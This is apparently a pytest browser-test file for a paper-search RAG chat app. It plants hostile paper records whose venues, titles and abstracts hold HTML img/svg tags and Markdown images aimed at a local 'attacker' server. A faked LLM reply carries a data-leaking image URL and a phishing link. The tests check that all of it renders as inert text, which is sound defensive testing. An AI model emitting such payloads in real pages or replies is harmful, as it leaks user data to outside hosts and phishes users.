"""Hostile paper lists and a hostile LLM against the page in a real browser (issue 13, items 1 and 2).

An attacker's server on 127.0.0.1 records every request; paper venues, titles, abstracts and a model's reply
all point images and links at it. Nothing may fetch it, and everything must read as literal text.
"""

from __future__ import annotations

import csv
import io
import shutil
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from gradio_close import close
from pydantic import SecretStr

import rag
from fake_openai import FakeOpenAI, Reply
from rag.serve.examples import COUNT_QUESTION
from ui.app import build_app, launch_options

CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium not installed (apt-get install chromium)")
BOT = ".message.bot, [data-testid='bot']"
USER = ".message.user, [data-testid='user']"


class Attacker:
    """An HTTP server that answers everything with a 1x1 GIF and remembers what was asked for."""

    GIF = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")

    def __init__(self):
        self.paths: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                attacker.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(Attacker.GIF)))
                self.end_headers()
                self.wfile.write(Attacker.GIF)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def hostile_lists(data: Path, evil: str) -> None:
    """A .txt whose header is a Markdown image, and a CSV whose venues are HTML and whose text hides images."""
    (data / "papers" / "zz_md_venue.txt").write_text(
        f"![v[e]n]({evil}/txt-venue) 2026\n\nWe propose KestrelNet, a falcon-inspired optical flow estimator that "
        "tracks fast birds in wildlife footage at 240 frames per second on a single laptop GPU.\n", encoding="utf-8")
    rows = [
        {"title": f"ZanzibarNet ![t[i]tle]({evil}/title-img)", "venue": f"<img src={evil}/csv-venue>", "year": "2026",
         "abstract": f"We propose ZanzibarNet ![a[b]c]({evil}/abstract-img), a graph model for cargo routing that "
                     f"reduces harbour delays by 12% on port logistics benchmarks. Code: https://github.com/zz/zanzibar "
                     f"![i[m]g]({evil}/code-img)"},
        {"title": "Unclosed", "venue": "<svg>", "year": "2026",
         "abstract": "We propose OkapiSeg, a segmentation model for forest canopy imagery that separates "
                     "individual tree crowns from drone photographs with a lightweight decoder."},
    ]
    # the largest venue names an example question ("Which <venue> papers study …?")
    rows += [{"title": f"Route{i}", "venue": f"<img src={evil}/example-venue>", "year": "2025",
              "abstract": f"We study cargo routing variant {i} with harbour scheduling and report a {i}% gain."}
             for i in range(60)]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=["title", "venue", "year", "abstract"])
    writer.writeheader()
    writer.writerows(rows)
    (data / "papers" / "zz_hostile.csv").write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def attacker():
    server = Attacker()
    yield server
    server.close()


@pytest.fixture(scope="module")
def fake_llm():
    with FakeOpenAI() as server:
        yield server


@pytest.fixture(scope="module")
def hostile_settings(tmp_path_factory, built_settings, attacker):
    root = tmp_path_factory.mktemp("hostile-browser")
    data = root / "data"
    shutil.copytree(built_settings.index.data_dir, data)
    hostile_lists(data, attacker.url)
    shutil.copytree(built_settings.index.index_dir, root / "index")  # only the hostile papers are embedded
    settings = rag.Settings(index_dir=root / "index", data_dir=data, embed_threads=1)
    rag.ingest(settings=settings)
    return settings


def _serve(settings):
    app = build_app(settings)
    app.launch(server_name="127.0.0.1", server_port=None, prevent_thread_lock=True, quiet=True,
               **launch_options(settings))
    return app


@pytest.fixture(scope="module")
def extractive_url(hostile_settings):
    app = _serve(hostile_settings)
    yield app.local_url
    close(app)


@pytest.fixture(scope="module")
def llm_url(hostile_settings, fake_llm):
    settings = hostile_settings.replace(openai_base_url=fake_llm.url, openai_api_key=SecretStr("sk-test-key"),
                                        llm_model="evil-model", llm_timeout=5.0, llm_retries=1)
    app = _serve(settings)
    yield app.local_url
    close(app)


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
            "--disable-component-update", "--disable-sync"])
        yield chromium
        chromium.close()


def _open(browser, url, attacker):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.fetched = []  # every request the browser made to the attacker, whatever answered it
    page.on("request", lambda r: r.url.startswith(attacker.url) and page.fetched.append(r.url))
    page.goto(url)
    page.wait_for_function("document.body.innerText.includes('papers indexed')", timeout=20_000)
    return page


@pytest.fixture
def page(browser, extractive_url, attacker):
    attacker.paths.clear()
    page = _open(browser, extractive_url, attacker)
    yield page
    page.close()


@pytest.fixture
def llm_page(browser, llm_url, attacker):
    attacker.paths.clear()
    page = _open(browser, llm_url, attacker)
    yield page
    page.close()


def ask(page, question: str, done: str) -> str:
    """Send `question`; return the bot's last message once `done` shows in it."""
    before = page.locator(BOT).count()
    page.get_by_label("Ask about the papers").fill(question)
    page.keyboard.press("Enter")
    page.wait_for_function(
        "([sel, n, done]) => { const m = document.querySelectorAll(sel);"
        " return m.length > n && m[m.length - 1].innerText.includes(done); }",
        arg=[BOT, before, done], timeout=30_000)
    time.sleep(0.5)  # the final message replaces the streamed one
    return page.locator(BOT).last.inner_text()


def nothing_fetched(page, attacker) -> bool:
    time.sleep(1.0)  # images load asynchronously
    return not attacker.paths and not page.fetched


def test_hostile_venues_in_the_header_are_text_and_fetch_nothing(page, attacker):
    header = page.locator("h1").locator("xpath=..").inner_text()
    assert f"<img src={attacker.url}/csv-venue> 2026: 1" in header
    assert f"![v[e]n]({attacker.url}/txt-venue) 2026: 1" in header
    assert "<svg> 2026: 1" in header and "ICML 2026" in header  # the unclosed <svg> hides nothing after it
    assert nothing_fetched(page, attacker), attacker.paths + page.fetched


def test_the_count_answer_shows_hostile_venues_as_text(page, attacker):
    answer = ask(page, COUNT_QUESTION, "papers are indexed")
    assert f"<img src={attacker.url}/csv-venue> 2026: 1" in answer
    assert page.locator(f"{BOT.split(',')[0]} img").count() == 0
    assert nothing_fetched(page, attacker), attacker.paths + page.fetched


def test_answers_quoting_hidden_images_and_the_code_list_fetch_nothing(page, attacker):
    answer = ask(page, "What does ZanzibarNet do for cargo routing?", "ZanzibarNet")
    assert "harbour delays" in answer
    code = ask(page, "Which papers link to code on github?", "link to code")
    assert "https://github.com/zz/zanzibar" in code
    assert page.locator(".message img, #pc-src-1-1 img").count() == 0
    assert nothing_fetched(page, attacker), attacker.paths + page.fetched


def test_a_model_reply_with_an_image_and_a_phishing_link_is_shown_as_text(llm_page, attacker, fake_llm):
    reply = (f"ZanzibarNet cuts harbour delays by 12% [1]. ![x]({attacker.url}/llm-leak?q=cargo) "
             f"[log in here]({attacker.url}/phish) <img src={attacker.url}/llm-html> www.phish.example")
    fake_llm.default = Reply(reply)

    answer = ask(llm_page, "What does ZanzibarNet do for cargo routing?", "log in here")

    # the model's words stay as text (llm-real's reply cleaning drops the image and link syntax itself)
    assert "log in here" in answer and "harbour delays" in answer
    message = llm_page.locator(BOT).last
    assert message.locator("img").count() == 0
    links = message.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
    assert links and all(href.startswith("#pc-src-") for href in links), links  # only our citation links
    assert nothing_fetched(llm_page, attacker), attacker.paths + llm_page.fetched


def test_an_example_question_naming_a_hostile_venue_is_text(page, attacker):
    example = f"Which <img src={attacker.url}/example-venue> papers"  # the button shortens the rest
    page.wait_for_function("t => document.body.innerText.includes(t)", arg=example, timeout=10_000)
    page.get_by_text(example).first.click()  # an example asks at once
    page.wait_for_function("([sel, t]) => [...document.querySelectorAll(sel)].some(m => m.innerText.includes(t))",
                           arg=[USER, example], timeout=30_000)
    assert page.locator(".message img").count() == 0
    assert nothing_fetched(page, attacker), attacker.paths + page.fetched
